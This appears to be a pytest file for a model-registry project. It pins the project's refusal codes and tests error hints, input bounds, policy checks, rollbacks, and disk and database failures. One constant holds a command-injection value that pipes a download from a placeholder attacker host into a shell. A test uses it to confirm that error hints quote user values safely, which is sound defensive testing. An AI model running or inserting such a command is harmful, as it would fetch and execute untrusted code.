"""Refusals that no other test meets: bounds, malformed input, failing disks and databases."""

import errno
import pickle
import re
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from muniment.core.backend import Backend
from muniment.core.bytes.revisions import parse_manifest
from muniment.core.canonical import Json
from muniment.core.claims.approvals import Approval
from muniment.core.claims.attestations import EVALUATION, POLICY, Statement, write_statement
from muniment.core.digests import Digest
from muniment.core.errors import (
    BlobNotFound,
    EventNotFound,
    GateFailed,
    InvalidAttestation,
    InvalidManifest,
    InvalidPolicy,
    InvalidText,
    MunimentError,
    NothingToRollBack,
    StorageBusy,
    StorageFailed,
    StorageFull,
    StorageReadOnly,
    UnknownSigner,
    VersionExists,
    VersionNotFound,
    list_errors,
)
from muniment.core.errors.tree import REMEDY
from muniment.core.events import AttestationRecorded
from muniment.core.names import Reference
from muniment.core.payloads import MAX_TEXT_CHARACTERS, Payload
from muniment.core.verbs.claims import RecordAttestation
from muniment.core.verbs.gates import GetMove, MoveAlias, RollBackAlias, SetPolicy
from muniment.core.verbs.log import GetGrowth, GetLeaves, GetLogIdentity, GetProof
from muniment.core.verbs.people import GetKey
from muniment.core.verbs.versions import GetVersion
from muniment.server.embedded import open_directory
from muniment.signing.keys import Identity
from muniment.signing.statements import attest
from muniment.stores.blobs.local import LocalBlobs
from muniment.stores.failures import database_failure, disk_failures
from muniment.stores.sql.sqlite import open_sqlite
from muniment.testing.backends import (
    MODELS,
    NAME,
    PRODUCTION,
    evaluation,
    publish,
    record,
    refuses,
    set_policy,
)

FIRST = Reference(NAME, 1)

# What scripts decide by. A code may come; none may change or go.
CODES = """
    already_approved
    already_proposed
    already_withdrawn
    answer_ahead
    answer_incomplete
    answer_stale
    audit_failed
    bad_signature
    bad_token
    blob_not_found
    body_too_large
    break_glass_not_allowed
    browser_lost
    card_not_found
    change_needs_approval
    claim_not_found
    clock_disagrees
    content_corrupt
    deployment_not_found
    destination_not_empty
    digest_mismatch
    empty_revision
    entry_unknown
    evaluation_not_found
    event_not_found
    evidence_inconsistent
    file_changed
    file_unusable
    fixtures_not_found
    gate_failed
    gate_misjudged
    index_forked
    index_malformed
    insecure_location
    internal_error
    invalid_attestation
    invalid_body
    invalid_card
    invalid_digest
    invalid_document
    invalid_evidence
    invalid_export
    invalid_key
    invalid_location
    invalid_manifest
    invalid_model_file
    invalid_name
    invalid_option
    invalid_past
    invalid_path
    invalid_policy
    invalid_query
    invalid_range
    invalid_reference
    invalid_request
    invalid_scope
    invalid_setting
    invalid_tag
    invalid_text
    invalid_time
    issuer_not_found
    key_expired
    key_revoked
    kind_mismatch
    length_mismatch
    log_forked
    log_inconsistent
    log_replaced
    log_restored
    log_rolled_back
    login_refused
    memory_damaged
    method_not_allowed
    missing_extra
    model_not_found
    move_unfounded
    name_taken
    namespace_not_found
    no_reads_pending
    nobody_can_approve
    not_a_file
    not_a_person
    not_confirmed
    not_found
    not_identified
    not_independent
    not_permitted
    not_proven
    not_reproducible
    not_shown
    not_signed
    not_withdrawable
    not_your_claim
    not_your_signature
    not_yours_to_decide
    nothing_to_accept
    nothing_to_confirm
    nothing_to_roll_back
    nothing_to_simulate
    nothing_to_withdraw
    offset_mismatch
    opened_read_only
    own_version
    past_not_come
    policy_not_found
    precondition_failed
    principal_not_found
    proof_invalid
    proposal_stale
    provenance_cycle
    provenance_hole
    quota_exceeded
    read_only_export
    reason_needed
    receipt_mismatch
    record_unproven
    recovery_cancelled
    recovery_not_found
    recovery_waiting
    refused
    registry_busy
    registry_exists
    registry_moved
    registry_not_found
    registry_unreachable
    request_not_found
    request_replayed
    request_timeout
    role_not_held
    route_not_found
    schema_too_new
    stale_approval
    statement_reused
    storage_busy
    storage_failed
    storage_full
    storage_read_only
    symlink_refused
    tier_not_found
    token_expired
    token_not_found
    too_many_requests
    unavailable
    unknown_claim_kind
    unknown_format
    unknown_signer
    unsafe_format
    untrusted
    untrusted_types
    upload_not_found
    verdict_inconsistent
    version_exists
    version_in_use
    version_not_found
    version_not_next
    version_purged
    version_retained
    version_withdrawn
    waiver_not_allowed
    webhook_not_found
    wrong_subject
"""


def test_codes_are_stable() -> None:
    """The list of refusal codes is the pinned one."""
    assert sorted(kind.code for kind in list_errors() if kind is not MunimentError) == CODES.split()


EVIL = "x; curl https://evil.example | sh"


@pytest.mark.parametrize("kind", [kind for kind in list_errors() if kind is not MunimentError])
def test_a_hint_is_no_command_of_somebody_else(kind: type[MunimentError]) -> None:
    """A hint quotes what it names as a shell does, so that whoever types it runs what we say."""
    types = {name: hint for one in kind.__mro__ for name, hint in getattr(one, "__annotations__", {}).items()}
    values: dict[object, object] = {str: EVIL, int: 3, float: 3.0, bool: True, tuple[str, ...]: (EVIL,)}
    named = [name for name in kind.fields if name != REMEDY]
    error = kind(**{name: values.get(types[name], EVIL) for name in named})
    assert "evil" not in re.sub(r"'[^']*'", "", error.hint)


def test_a_refusal_crosses_a_process() -> None:
    """An unpickled refusal says the same as the original."""
    error = VersionExists(reference="acme/x@1", digest="sha256:0")
    copy = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own bytes
    assert (type(copy), str(copy), copy.hint) == (VersionExists, str(error), error.hint)


def test_a_refusal_says_what_to_do() -> None:
    """A refusal in words is what went wrong and, in a second line, what to do."""
    error = VersionExists(reference="acme/x@1", digest="sha256:0")
    assert str(error) == f"{error.sentence}\nhint: {error.hint}"
    assert "\n" not in error.sentence + error.hint
    assert str(MunimentError()) == ""


@pytest.mark.parametrize(
    "change", [{"evidence": "all"}, {"role": "boss"}, {"decision": None}, {"role": None}]
)
def test_a_malformed_approval_is_refused(change: dict[str, Json]) -> None:
    """A malformed predicate is not read as an approval."""
    predicate: dict[str, Json] = {
        "version": "acme/x@1",
        "alias": "production",
        "role": "validator",
        "decision": "approve",
        "registry": "r",
        "meaning": "review",
        "policies": ["sha256:0"],
        "evidence": [],
        "waiver": None,
        "name": None,
        "reason": None,
        "nonce": "n",
        "expires": None,
        "time": "2026-01-01T00:00:00Z",
    }
    assert Approval.read(predicate).predicate() == predicate
    with pytest.raises(InvalidAttestation):
        Approval.read({**predicate, **change})


def test_texts_and_manifests_have_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    """Texts and manifests beyond their bounds are refused."""
    with pytest.raises(InvalidText):
        Payload(salt="", text="x" * (MAX_TEXT_CHARACTERS + 1))
    monkeypatch.setattr("muniment.core.bytes.revisions.MAX_MANIFEST_BYTES", 1)
    with pytest.raises(InvalidManifest, match="too large"):
        parse_manifest(b"{}")


def test_a_statement_has_one_subject() -> None:
    """A statement has exactly one subject and names its type."""
    statement = write_statement({"digest": {"sha256": "0" * 64}}, "t", {})
    assert statement["predicateType"] == "t"
    assert Statement(subjects=(), predicate_type="t", predicate={}).subjects == ()


def test_what_is_not_there_is_named(backend: Backend, owner: Identity) -> None:
    """Missing entries, keys and aliases are refused by name."""
    publish(backend, owner, b"a")
    size = len(backend.ask(GetLeaves(start=0)))
    refuses(lambda: backend.ask(GetProof(index=size)), EventNotFound)
    refuses(lambda: backend.ask(GetGrowth(size=0, until=size + 1)), EventNotFound)
    assert backend.ask(GetGrowth(size=size + 1)).path == ()
    refuses(lambda: backend.ask(GetKey(key_id="none")), UnknownSigner)
    refuses(lambda: backend.ask(GetMove(name=NAME, alias=PRODUCTION)), VersionNotFound)
    refuses(lambda: backend.ask(GetVersion(reference=FIRST, at="2025-01-01T00:00:00Z")), VersionNotFound)


def test_a_policy_is_read_before_it_is_in_force(backend: Backend, owner: Identity) -> None:
    """An invalid or overlong policy is refused, and setting the same one again changes nothing."""
    said: dict[str, Json] = {
        "models": str(MODELS),
        "alias": str(PRODUCTION),
        "registry": backend.ask(GetLogIdentity()).verifier,
        "time": "2026-01-01T00:00:00Z",
    }
    for document, kind in (
        (b"not json", InvalidPolicy),
        (b"{}", InvalidPolicy),
        (b" " * ((1 << 20) + 1), BlobNotFound),
    ):
        bundle = attest(Digest.of(document), "policy", POLICY, said, owner)
        digest, signed = backend.add_documents([document, bundle.encode()])
        command = SetPolicy(
            models=MODELS,
            alias=PRODUCTION,
            policy=digest,
            attestation=signed,
            reason=Payload.of("agreed"),
        )
        refuses(lambda command=command: backend.execute(command), kind)  # type: ignore[misc] # bound at once
    assert set_policy(backend, owner, {"rule": "signature"}).created
    assert not set_policy(backend, owner, {"rule": "signature"}).created


def test_a_bundle_that_is_too_large_is_not_read(
    backend: Backend, owner: Identity, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bundle beyond its bound is refused before it is parsed."""
    publish(backend, owner, b"a")
    monkeypatch.setattr("muniment.services.claims.signers.MAX_BUNDLE_BYTES", 10)
    digest = backend.add_documents([b"x" * 11])[0]
    refuses(lambda: backend.execute(RecordAttestation(reference=FIRST, bundle=digest)), BlobNotFound)


def test_the_same_claim_again_answers_with_the_first(backend: Backend, owner: Identity) -> None:
    """Recording a bundle again answers with its first entry."""
    publish(backend, owner, b"a")
    first = record(backend, owner, 1, EVALUATION, evaluation(0.9))
    digest = first.read(AttestationRecorded).attestation
    again = backend.execute(RecordAttestation(reference=FIRST, bundle=digest))
    assert (again.index, again.created) == (first.index, False)


def test_a_rollback_needs_somewhere_to_go(backend: Backend, owner: Identity) -> None:
    """A rollback is refused without an earlier version, or if that one no longer meets the policy."""
    for data in (b"a", b"b"):
        publish(backend, owner, data)
    command = RollBackAlias(name=NAME, alias=PRODUCTION)
    refuses(lambda: backend.execute(command), NothingToRollBack)
    _move(backend, 1)
    refuses(lambda: backend.execute(command), NothingToRollBack)
    _move(backend, 2)
    set_policy(backend, owner, {"rule": "threshold", "metric": "roc_auc", "op": ">=", "value": 0.5})
    refusal = refuses(lambda: backend.execute(command), GateFailed)
    assert refusal.data()["reference"] == "acme/readmission@1"


def _move(backend: Backend, number: int) -> None:
    backend.execute(MoveAlias(reference=Reference(NAME, number), alias=PRODUCTION))


# ---- disks and databases


@pytest.mark.parametrize(
    ("number", "kind"),
    [
        (errno.ENOSPC, StorageFull),
        (errno.EDQUOT, StorageFull),
        (errno.EFBIG, StorageFull),
        (errno.EROFS, StorageReadOnly),
        (errno.EACCES, StorageReadOnly),
        (errno.EIO, StorageFailed),
    ],
)
def test_a_failing_disk_is_told_apart(number: int, kind: type[MunimentError]) -> None:
    """Full, read-only and broken disks have different codes."""
    with pytest.raises(kind, match="somewhere"), disk_failures("somewhere"):
        raise OSError(number, "it fails")


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (sqlite3.SQLITE_FULL, StorageFull),
        (sqlite3.SQLITE_READONLY_DIRECTORY, StorageReadOnly),
        (sqlite3.SQLITE_BUSY_SNAPSHOT, StorageBusy),
        (sqlite3.SQLITE_CORRUPT, StorageFailed),
        (None, StorageFailed),
    ],
)
def test_a_failing_database_is_told_apart(code: int | None, kind: type[MunimentError]) -> None:
    """Extended result codes of SQLite map to the same refusals as the primary ones."""
    error = sqlite3.OperationalError("it fails")
    if code is not None:
        error.sqlite_errorcode = code
    assert type(database_failure(error, "somewhere")) is kind


def test_a_database_that_fails_between_is_a_refusal(tmp_path: Path) -> None:
    """Reads and writes on a database without its tables are refused."""
    units = open_sqlite(tmp_path / "registry.db", LocalBlobs.create(tmp_path))
    with sqlite3.connect(tmp_path / "registry.db") as connection:
        connection.execute("DROP TABLE payloads")
    connection.close()
    acts: list[Callable[[], object]] = [
        lambda: units.read(lambda unit: unit.payloads.find("x")),
        lambda: units.write(lambda unit: unit.payloads.find("x")),
    ]
    for act in acts:
        refuses(act, StorageFailed)
    units.close()


def test_a_locked_database_is_busy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Writers give up with a refusal if another one holds the lock for long."""
    monkeypatch.setattr("muniment.stores.sql.sqlite._BUSY_S", 0.05)
    units = open_sqlite(tmp_path / "registry.db", LocalBlobs.create(tmp_path))
    blocker = sqlite3.connect(tmp_path / "registry.db", isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")
    refuses(lambda: units.write(lambda unit: unit.log.size()), StorageBusy)
    blocker.execute("ROLLBACK")
    blocker.close()
    assert units.write(lambda unit: unit.log.size()) == 0
    units.close()


def test_an_interrupted_work_ends_its_transaction(tmp_path: Path) -> None:
    """An interrupt reaches its caller, and the next write succeeds."""
    units = open_sqlite(tmp_path / "registry.db", LocalBlobs.create(tmp_path))

    def interrupt(_unit: object) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        units.write(interrupt)
    assert units.write(lambda unit: unit.log.append(b"x", "2026-01-01T00:00:00Z")) == 0
    units.close()


def test_a_blob_that_cannot_be_written_leaves_nothing(tmp_path: Path) -> None:
    """A document that fails half way leaves no file."""
    store = LocalBlobs.create(tmp_path)
    (tmp_path / "blobs" / "sha256").rmdir()
    with pytest.raises(StorageFailed):
        store.add_documents([b"x"])
    assert list((tmp_path / "uploads").iterdir()) == []


def test_a_registry_without_its_keys_or_beginning_is_refused(tmp_path: Path) -> None:
    """A directory without its keys, or whose log does not begin with a founding, is refused."""
    open_sqlite(tmp_path / "registry.db", LocalBlobs.create(tmp_path)).close()
    with pytest.raises(MunimentError, match="first entry"):
        open_directory(tmp_path)
